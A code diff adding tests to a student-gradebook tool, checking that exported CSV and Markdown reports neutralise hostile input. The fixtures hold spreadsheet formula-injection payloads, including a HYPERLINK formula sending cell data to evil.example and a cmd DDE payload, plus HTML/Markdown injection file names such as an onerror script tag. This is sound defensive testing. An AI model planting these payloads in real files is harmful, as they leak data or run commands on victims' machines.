@@ -10,6 +10,7 @@ import csv
 import io
 import json
 import os
+import re
 import signal
 import subprocess
 import sys
@@ -285,7 +286,93 @@ def test_a_csv_that_is_not_a_gradebook_is_refused_by_name():
         gradebook.parse_gradebook("student,score\nalice,3\n", "x.csv")
 
 
+# -- a gradebook safe to open in a spreadsheet ------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"grade")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+            "\t=1+1", "\r=1+1", " =1+1", "'=quoted", "Lee, =1+1", "a;@SUM(1)", "x\t-1"]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def hostile_export(root):
+    """An unpacked Gradescope export whose submitters typed formulas as their names, emails and ids; every
+    submission is a plain file, so the class is unreadable and grade-class grades nothing (fast)."""
+    import yaml
+    root.mkdir(parents=True)
+    people = {}
+    for i, text in enumerate(FORMULAS):
+        folder = f"submission_{100 + i}"
+        people[folder] = {":submitters": [{":name": text, ":email": text, ":sid": text}]}
+        (root / folder).write_text("not a submission")
+    (root / classroom.METADATA).write_text(yaml.safe_dump(people))
+    return root
+
+
+def cells_as_a_spreadsheet_reads_them(text, delimiter=","):
+    return [cell for line in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in line]
+
+
+def test_no_cell_of_a_gradebook_starts_a_formula_whatever_the_students_typed_and_it_reads_back_as_typed(tmp_path, capsys):
+    """Gradescope's metadata (names, emails, ids typed by students) through grade-class into gradebook.csv: the
+    real csv reader finds no cell that a spreadsheet would run, under ',' or the ';' and tab it may guess."""
+    export = hostile_export(tmp_path / "export")
+    assert cli_main(["grade-class", str(export), "--out", str(tmp_path / "out"), "--quiet"]) == exits.OK
+    text = (tmp_path / "out" / "gradebook.csv").read_text()
+    for delimiter in (",", ";", "\t"):
+        cells = cells_as_a_spreadsheet_reads_them(text, delimiter)
+        assert [c for c in cells if c.lstrip(" ").startswith(FORMULA_STARTS)] == [], delimiter
+    rows = gradebook.read_gradebook(tmp_path / "out" / "gradebook.csv")
+    people = classroom.parse_metadata((export / classroom.METADATA).read_text())
+    typed = {folder: subs[0].name for folder, subs in people.items()}  # as the metadata reader cleans them (blanks stripped)
+    assert {r.submission: r.name for r in rows} == {r.submission: r.email for r in rows} == {r.submission: r.sid for r in rows} == typed
+    assert len(rows) == len(FORMULAS) and typed["submission_100"] == FORMULAS[0]
+
+
+def test_a_merged_gradebook_is_as_safe_and_reads_back_the_same(tmp_path, capsys):
+    export = hostile_export(tmp_path / "export")
+    for k in (1, 2):
+        assert cli_main(["grade-class", str(export), "--out", str(tmp_path / f"s{k}"), "--shard", f"{k}/2", "--quiet"]) == exits.OK
+    assert cli_main(["gradebook", "merge", str(tmp_path / "s1"), str(tmp_path / "s2"), "--out", str(tmp_path / "all")]) == exits.OK
+    text = (tmp_path / "all" / "gradebook.csv").read_text()
+    assert [c for c in cells_as_a_spreadsheet_reads_them(text) if c.lstrip(" ").startswith(FORMULA_STARTS)] == []
+    merged = {r.student: r for r in gradebook.read_gradebook(tmp_path / "all" / "gradebook.csv")}
+    shards = {r.student: r for k in (1, 2) for r in gradebook.read_gradebook(tmp_path / f"s{k}" / "gradebook.csv")}
+    assert merged == shards and len(merged) == len(FORMULAS)
+
+
+def test_scores_and_seconds_stay_numbers_in_the_spreadsheet():
+    row = gradebook.make_row(entry("a", "=alice", submitters=(classroom.Submitter("-Al", "@a", "+1"),)), gradebook.GRADED, "", RESULTS, 3.25)
+    line = next(csv.DictReader(io.StringIO(gradebook.gradebook_csv([row]))))
+    assert (line["total"], line["softmax"], line["seconds"]) == ("7.5", "5", "3.2")
+    assert (line["student"], line["name"], line["email"], line["sid"]) == ("'=alice", "'-Al", "'@a", "'+1")
+
+
 # -- the class report --------------------------------------------------------------------
+
+MARKUP_NAMES = ["[grade](https:evil.example).zip", "![t](http:track.example?id=1).zip", "<img src=x onerror=alert(1)>.zip",
+                "<https:evil.example>.zip", "www.evil.example.zip", "a | b | c.zip", "&lt;script&gt;.zip", "back\\slash [x].zip"]
+
+
+def acting_markup(line):
+    """What in a line of Markdown would act once rendered (CommonMark, GitHub's): an unescaped [ (a link or an
+    image), < before a letter, / ! or ? (HTML, an autolink), an entity, or a URL or www. that GitHub links."""
+    bare = re.sub(r"\\.", "", line)  # a backslash-escaped character is literal text
+    return re.findall(r"\[|<[A-Za-z/!?]|&[A-Za-z#]|://|www\.", bare)
+
+
+def test_the_class_report_shows_markup_in_file_names_as_text(tmp_path, capsys):
+    """A class whose file names hold links, images, HTML and table pipes: class.md shows them, inert."""
+    for name in MARKUP_NAMES:
+        (tmp_path / "class" / name).parent.mkdir(exist_ok=True)
+        (tmp_path / "class" / name).write_text("not a zip")
+    assert cli_main(["grade-class", str(tmp_path / "class"), "--out", str(tmp_path / "out"), "--quiet"]) == exits.OK
+    text = (tmp_path / "out" / "class.md").read_text()
+    assert [line for line in text.splitlines() if acting_markup(line)] == []
+    rows = [line for line in text.split("## Not graded", 1)[1].splitlines() if "unreadable" in line]
+    assert len(rows) == len(MARKUP_NAMES)
+    for line in rows:
+        assert len(re.findall(r"(?<!\\)\|", line)) == 5, f"a name must not add table cells: {line}"
+    assert "| <img" not in text and "\\<img src=x onerror=alert(1)>.zip" in text
+
 
 
 def records():
